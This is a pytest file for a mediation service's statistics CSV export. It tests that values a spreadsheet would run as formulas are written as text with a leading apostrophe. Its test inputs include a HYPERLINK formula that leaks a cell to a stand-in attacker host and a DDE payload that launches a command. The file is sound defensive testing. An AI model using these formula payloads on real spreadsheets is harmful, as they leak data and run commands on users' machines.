"""The statistics as CSV: what a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from mediation.projections.stats_csv import stats_csv
from mediation.projections.stats_query import StatsQuery, StatsReport, StatsRow


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\tx",
    ],
)
def test_a_typed_in_value_a_spreadsheet_would_run_is_written_as_text(typed: str) -> None:
    query = StatsQuery(frozenset({"cg-a"}), date(2026, 1, 1), date(2026, 12, 31), ("dispute_type",))
    report = StatsReport(query, [], [StatsRow("cg-a", dispute_type=typed)])

    (line,) = csv.DictReader(io.StringIO(stats_csv(report)))

    assert line["dispute_type"] == "'" + typed


def test_an_ordinary_value_is_written_as_it_is() -> None:
    query = StatsQuery(frozenset({"cg-a"}), date(2026, 1, 1), date(2026, 12, 31), ("dispute_type",))
    report = StatsReport(query, [], [StatsRow("cg-a", dispute_type="邻里 neighbour-2")])

    (line,) = csv.DictReader(io.StringIO(stats_csv(report)))

    assert (line["center"], line["dispute_type"], line["period"]) == (
        "cg-a",
        "邻里 neighbour-2",
        "total",
    )
